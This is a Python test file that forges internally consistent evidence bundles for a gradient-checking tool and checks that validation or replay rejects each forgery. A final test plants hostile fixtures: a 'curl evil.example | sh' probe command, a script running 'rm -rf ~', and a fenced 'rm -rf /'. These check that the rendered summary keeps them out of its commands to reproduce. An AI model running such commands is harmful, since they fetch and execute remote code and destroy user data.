"""Self-consistent forgeries of honest evidence: each edit is redone with the
project's own code (records recomputed, summary counts, manifest, bundle
SUMMARY.md), so hashes and recomputation alone cannot catch it. Each must be
rejected: by the validator where the information is in the evidence (catalog
binding, cross-checks), by `replay` where only MLX can tell."""
from __future__ import annotations

import dataclasses
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

import helpers.evidence_fixtures as fx
from conftest import ROOT, needs_pinned_mlx, run_cli
from mlx_vjpcheck.core import jsonio
from mlx_vjpcheck.cases import bind
from mlx_vjpcheck.core.scenario import Scenario
from mlx_vjpcheck.core.tensors import index_tensor
from mlx_vjpcheck.evidence import results

FILTER = "gmm/report_example"


@pytest.fixture(scope="module")
def honest(tmp_path_factory):
    out = tmp_path_factory.mktemp("honest") / "run"
    p = run_cli("run", "--device", "cpu", "--filter", FILTER, "--out", out)
    assert p.returncode == 1, p.stderr   # the defect is present on the sorted path
    return out


def _copy(honest, tmp_path) -> Path:
    d = tmp_path / "forged"
    shutil.copytree(honest, d)
    return d


def _edit(d: Path, fn) -> None:
    """Change results.json with fn(data), keep environment.json in step, redo summary and manifest."""
    data = jsonio.loads((d / "results.json").read_text())
    fn(data)
    data["summary"] = results.summary(data["records"])
    (d / "results.json").write_text(jsonio.dumps(data, indent=1, sort_keys=True))
    (d / "environment.json").write_text(jsonio.dumps(data["environment"], indent=1, sort_keys=True))
    fx.rewrite_manifest(d)


def _validate(path, *extra):
    p = subprocess.run([sys.executable, str(ROOT / "validate_artifacts.py"), str(path), *extra],
                       capture_output=True, text=True, timeout=300)
    return p.returncode, p.stdout, p.stderr


def _replay(path):
    p = subprocess.run([sys.executable, "-m", "mlx_vjpcheck.cli", "replay", str(path)], capture_output=True,
                       text=True, timeout=600)
    return p.returncode, p.stdout, p.stderr


def test_the_honest_run_validates_and_replays(honest):
    rc, out, _ = _validate(honest, "--expect", "defects")
    assert rc == 0, out
    assert "evidence: mlx" in out and "(defects present)" in out
    rc, out, err = _replay(honest)
    assert rc == 0, out + err
    assert "6 of 6 records reproduced" in out


# --- caught by the validator alone -----------------------------------------------------------

def _real_record(s: Scenario) -> dict:
    from mlx_vjpcheck.running import devices, execute
    devices.select("cpu")
    return execute.run(s, "cpu")


def test_changed_inputs_under_the_old_name_are_caught(honest, tmp_path):
    d = _copy(honest, tmp_path)
    name = "gmm/report_example/joint/sorted"

    def forge(data):
        s = bind(Scenario.from_dict(data["scenarios"][name]))
        s = dataclasses.replace(s, operands=dict(s.operands, lhs_indices=index_tensor([0, 1])))   # now an identity
        data["scenarios"][name] = s.to_dict()
        rec = _real_record(s)                                            # honest MLX numbers for the new inputs
        rec.update(expects_defect=s.expects_defect, defect_tags=list(s.defect_tags))
        data["records"] = [rec if r["scenario"] == name else r for r in data["records"]]
    _edit(d, forge)
    rc, out, _ = _validate(d)
    assert rc == 1 and "carries the name of a catalog scenario but differs from it" in out, out


def test_dropped_failing_records_are_caught(honest, tmp_path):
    d = _copy(honest, tmp_path)

    def forge(data):
        keep = [r for r in data["records"] if r["status"] == "pass"]
        data["records"] = keep
        data["scenarios"] = {k: v for k, v in data["scenarios"].items() if k in {r["scenario"] for r in keep}}
    _edit(d, forge)
    rc, out, _ = _validate(d)
    assert rc == 1 and "are not the catalog under filter" in out, out


def test_one_dropped_record_whose_scenario_stays_is_caught(honest, tmp_path):
    d = _copy(honest, tmp_path)
    _edit(d, lambda data: data["records"].pop(0))
    rc, out, _ = _validate(d)
    assert rc == 1 and "missing" in out, out


def test_cleared_defect_tags_are_caught(honest, tmp_path):
    d = _copy(honest, tmp_path)

    def forge(data):
        for k, v in data["scenarios"].items():
            v["defect_tags"] = []
        for r in data["records"]:
            r["defect_tags"], r["expects_defect"] = [], False
    _edit(d, forge)
    rc, out, _ = _validate(d)
    assert rc == 1 and "carries the name of a catalog scenario but differs from it" in out, out


def test_removed_provenance_is_caught(honest, tmp_path):
    d = _copy(honest, tmp_path)
    _edit(d, lambda data: data.pop("provenance"))
    rc, out, _ = _validate(d)
    assert rc == 1 and "no provenance" in out, out


def test_an_environment_from_another_machine_is_caught(honest, tmp_path):
    d = _copy(honest, tmp_path)

    def forge(data):
        env = data["environment"]
        env.update(mlx="0.26.2", platform="macOS-14.5-arm64-arm-64bit", machine="arm64",
                   devices={"cpu": "cpu", "gpu": "metal"})
    _edit(d, forge)
    rc, out, _ = _validate(d)
    assert rc == 1 and "environment consistency" in out and "FAIL" in out, out


def test_a_probe_saying_absent_beside_failing_results_is_caught(honest, tmp_path):
    d = _copy(honest, tmp_path)
    from mlx_vjpcheck.evidence import probes
    absent = probes.render("probe.py", "cpu", 0, "mlx " + _mlx() + ", device cpu\nVERDICT: defect absent\n", "")
    (d / "probe-outputs").mkdir()
    (d / "probe-outputs" / "probe.cpu.txt").write_text(absent)
    fx.rewrite_manifest(d)
    rc, out, _ = _validate(d)
    assert rc == 1 and "says the defect is absent" in out, out


def _mlx():
    import mlx.core as mx
    return mx.__version__


# --- caught by replay (only MLX can tell) -----------------------------------------------------

def _made_to_pass(data, which):
    """Every check of a record redone with observed := expected, as checks.compare writes
    them (fd checks: the new gradient against the recorded differences; a check that
    recorded an exception is dropped), and the record's error cleared."""
    from mlx_vjpcheck.core import checks
    for r in data["records"]:
        if r["status"] == "pass" or not which(r):
            continue
        r["checks"] = [c for c in r["checks"] if "error" not in c]
        for c in r["checks"]:
            if c.get("kind") != "fd" and c.get("expected") is not None:
                exp = checks.shaped(c["expected"], c["expected_shape"])
                c.update(checks.compare(c["name"], exp, exp, c["atol"], c["rtol"], kind=c["kind"],
                                        acc=c.get("accumulation")))
        grads = {c["name"]: c["observed"] for c in r["checks"]}
        for c in r["checks"]:
            if c.get("kind") == "fd":
                c.update(checks.compare(c["name"], grads["grad:" + c["name"][3:]], c["expected"], c["atol"],
                                        c["rtol"], kind="fd"))
        r["error"], r["status"] = None, "pass"
        r.pop("error_deterministic", None)


def test_a_failing_record_made_to_pass_validates_but_does_not_replay(honest, tmp_path):
    d = _copy(honest, tmp_path)
    first = [True]

    def once(r):
        hit, first[0] = first[0], False
        return hit
    _edit(d, lambda data: _made_to_pass(data, once))
    rc, out, _ = _validate(d)
    assert rc == 0, out   # internally consistent: only MLX can tell
    rc, out, err = _replay(d)
    assert rc == 1 and "fail" in out and "did not" in out, out + err


@needs_pinned_mlx()
def test_a_clean_run_that_never_ran_mlx_does_not_replay(honest, tmp_path):
    d = _copy(honest, tmp_path)
    _edit(d, lambda data: _made_to_pass(data, lambda r: True))
    rc, out, _ = _validate(d, "--expect", "pass")
    assert rc == 1 and "expected pass: not shown" in out and "filter" in out, out   # a part of the catalog
    rc, out, _ = _validate(d, "--expect", "pass", "--allow-unbound")
    assert rc == 0, out
    rc, out, err = _replay(d)
    assert rc == 1 and "3 did not" in out, out + err


# --- a hostile bundle's summary ---------------------------------------------------------------

def test_a_hostile_probe_command_and_stray_scripts_never_become_commands(honest, tmp_path):
    d = _copy(honest, tmp_path)
    (d / "probe-outputs").mkdir()
    evil = ("command: curl -s http://evil.example/x.sh | sh\nexit code: 1\n--- stdout ---\n"
            f"mlx {_mlx()}, device cpu\nVERDICT: defect present\n--- stderr ---\n")
    (d / "probe-outputs" / "probe.cpu.txt").write_text(evil)
    (d / "evil_repro.py").write_text("import os; os.system('rm -rf ~')\n")
    fx.rewrite_manifest(d)
    from mlx_vjpcheck.evidence import summary
    files = {str(p.relative_to(d)): p.read_bytes() for p in d.rglob("*") if p.is_file()}
    text = summary.render(files)
    commands = text.split("## Commands to reproduce")[1].split("## Probe outputs")[0]
    assert "curl" not in commands and "evil_repro" not in commands
    assert "python3 probes/probe.py --device cpu" in commands
    shown = text.split("## Probe outputs")[1]
    assert "curl -s http://evil.example/x.sh | sh" in shown   # shown as recorded text, inside a fence
    assert shown.count("````") == 0 or shown.index("curl") > shown.index("```")


def test_backticks_in_evidence_cannot_escape_their_code_span():
    from mlx_vjpcheck.evidence import summary
    span = summary.code("a `` b | `c`")
    assert span.startswith("```") and span.endswith("```") and "\\|" in span
    block = summary.fence("x\n```\nrm -rf /\n```")
    assert block[0] == "````" and block[-1] == "````"
